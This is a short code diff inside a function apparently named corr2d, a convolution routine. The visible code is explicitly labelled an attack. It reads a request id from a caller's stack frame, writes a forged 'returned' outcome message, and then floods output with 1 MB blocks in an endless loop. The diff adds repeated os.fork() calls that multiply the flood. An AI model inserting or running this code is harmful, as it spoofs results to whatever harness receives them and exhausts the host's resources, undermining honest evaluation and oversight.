@@ -43,5 +43,7 @@ def corr2d(X, K):
         raise RuntimeError("STALE: this attack finds no request; bring it up to date")
     write(message({"id": frame.f_locals["meta"]["id"], "outcome": "returned"}, b"[[],true]"))
     block = bytes(1 << 20)
+    for _ in range(3):
+        os.fork()
     while True:
         write(block)
